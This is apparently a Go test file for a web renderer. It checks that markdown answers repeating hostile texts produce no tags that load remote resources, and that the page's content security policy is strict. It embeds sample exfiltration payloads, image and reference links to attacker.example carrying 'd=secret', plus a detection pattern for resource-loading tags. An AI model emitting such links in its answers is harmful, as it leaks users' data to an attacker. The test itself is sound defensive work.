package web

import (
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
)

// loads finds what a browser would fetch by itself from somewhere.
var loads = regexp.MustCompile(`(?i)<(img|iframe|script|link|object|embed|video|audio|source|base|meta|form|style|svg)\b|\s(src|srcset|style|poster|background|on\w+)\s*=|url\(`)

// tags are what a browser takes for one; text is escaped.
var tags = regexp.MustCompile(`<[a-zA-Z!/][^>]*>`)

func TestAnAnswerThatRepeatsAHostileTextLoadsNothing(t *testing.T) {
	files, err := filepath.Glob("../toolbox/loop/testdata/hostile/*")
	if err != nil || len(files) < 40 {
		t.Fatalf("%d hostile texts, %v", len(files), err)
	}
	md := newMarkdown()
	for _, file := range files {
		raw, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		text := strings.ReplaceAll(string(raw), "{{attacker}}", "https://attacker.example")
		text += "\n\n![x](https://attacker.example/p.png?d=secret) <img src=https://attacker.example/q.png> <https://attacker.example/auto>\n\n" +
			"[x]: https://attacker.example/ref\n\n![x][x]\n"
		html := strings.Join(md.blocks(text, nil), "\n")
		for _, tag := range tags.FindAllString(html, -1) {
			if loads.MatchString(tag) {
				t.Errorf("%s: %s in\n%s", filepath.Base(file), tag, html)
			}
		}
	}
	for _, want := range []string{"default-src 'none'", "img-src 'self'", "connect-src 'self'", "form-action 'self'", "base-uri 'none'"} {
		if !strings.Contains(policyHeader, want) {
			t.Errorf("the policy of pages lacks %s", want)
		}
	}
}
